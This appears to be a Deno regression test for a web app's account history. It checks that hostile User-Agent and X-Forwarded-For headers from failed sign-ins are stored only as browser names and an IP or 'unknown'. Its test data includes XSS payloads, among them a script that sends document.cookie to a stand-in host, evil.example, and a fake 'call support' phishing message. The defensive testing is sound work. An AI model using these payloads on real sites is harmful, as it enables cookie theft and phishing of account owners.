/**
 * Third probe, N8: a failed sign-in wrote its User-Agent header into the account's history as it
 * came, so anyone knowing an address could put their own text (markup, a fake warning with a
 * phone number) in front of its owner. The history keeps the browser's and system's names only,
 * and an IP address or "unknown". Each test failed on the code before the fix.
 */
import assert from "node:assert/strict";
import { eq } from "drizzle-orm";
import { accountEvents } from "@core/db/schema/account-events.ts";
import type { AccountEvent } from "@shared/schemas/account-history.ts";
import { createHost, getWith, signIn } from "../support/accounts.ts";
import { createTestApp, postJson, type TestApp, TestClock } from "../support/app.ts";
import { createTestDatabase } from "../support/database.ts";
import type { Database } from "@core/db/client.ts";

const NOW = new Date("2026-11-20T10:00:00Z");
const EMAIL = "ana@example.com";

const HOSTILE = [
  '<img src=x onerror="alert(document.cookie)"><b>Your account is blocked.</b> ' +
  "Call +385 1 234 5678 now. " + "x".repeat(5000),
  "<script>fetch('//evil.example/'+document.cookie)</script>/1.0 (<a href=//evil>Support</a>)",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) <b>Call support: +385 1 234 5678</b> " +
  "Chrome/131.0.0.0 Safari/537.36",
];

async function withApp(fn: (app: TestApp, db: Database) => Promise<void>): Promise<void> {
  const database = await createTestDatabase();
  try {
    const clock = new TestClock(NOW);
    await fn(
      await createTestApp({ db: database.db, clock: clock.now, trustProxy: true }),
      database.db,
    );
  } finally {
    await database.dispose();
  }
}

async function historyOf(app: TestApp): Promise<AccountEvent[]> {
  const { accessToken } = await signIn(app, EMAIL);
  const res = await getWith(
    app,
    "/api/Users/manage/history?PageNumber=1&PageSize=100",
    accessToken,
  );
  assert.equal(res.status, 200);
  return (await res.json()).items;
}

/** Nothing of the attacker's own text: no markup, no message, no phone number. */
function assertNoHostileText(text: string, what: string) {
  for (const piece of ["<", ">", "blocked", "Call", "385", "evil", "script", "xxxxxxxx"]) {
    assert.ok(!text.includes(piece), `${what} holds "${piece}": ${text.slice(0, 200)}`);
  }
}

Deno.test("N8: a failed sign-in's User-Agent reaches the history only as a browser's name", () =>
  withApp(async (app, db) => {
    const userId = await createHost(app, db, { email: EMAIL });
    for (const agent of HOSTILE) {
      const res = await app.request(postJson("/api/Users/login", {
        email: EMAIL,
        password: "Wrong-Password-1",
      }, { "User-Agent": agent, "X-Forwarded-For": "198.51.100.7" }));
      assert.equal(res.status, 401);
      await res.body?.cancel();
    }
    const failed = (await historyOf(app)).filter((e) => e.kind === "SignInFailed");
    assert.equal(failed.length, HOSTILE.length);
    // Newest first: the last header named a real browser among its text.
    assert.deepEqual(failed.map((e) => e.userAgent), ["Chrome 131 · Windows", null, null]);
    for (const entry of failed) {
      assert.equal(entry.address, "198.51.100.7");
      assertNoHostileText(JSON.stringify(entry), "the history entry");
    }
    // Nor is any of it stored.
    const stored = await db.select().from(accountEvents).where(eq(accountEvents.userId, userId));
    assertNoHostileText(JSON.stringify(stored), "the stored rows");
  }));

Deno.test("N8: a forwarded address that is not one is kept as unknown", () =>
  withApp(async (app, db) => {
    await createHost(app, db, { email: EMAIL });
    const res = await app.request(postJson("/api/Users/login", {
      email: EMAIL,
      password: "Wrong-Password-1",
    }, { "X-Forwarded-For": "<b>Call +385 1 234 5678</b>" }));
    assert.equal(res.status, 401);
    await res.body?.cancel();
    const [failed] = (await historyOf(app)).filter((e) => e.kind === "SignInFailed");
    assert.equal(failed.address, "unknown");
  }));

Deno.test("N8: an entry stored with a raw header before the fix shows only the names", () =>
  withApp(async (app, db) => {
    const userId = await createHost(app, db, { email: EMAIL });
    for (const [i, agent] of HOSTILE.entries()) {
      await db.insert(accountEvents).values({
        id: crypto.randomUUID(),
        userId,
        kind: "SignInFailed",
        createdAt: new Date(NOW.getTime() - (i + 1) * 60_000),
        address: "198.51.100.7",
        userAgent: agent.slice(0, 200),
      });
    }
    const failed = (await historyOf(app)).filter((e) => e.kind === "SignInFailed");
    assert.deepEqual(failed.map((e) => e.userAgent), [null, null, "Chrome 131 · Windows"]);
    for (const entry of failed) assertNoHostileText(JSON.stringify(entry), "an old entry");
  }));
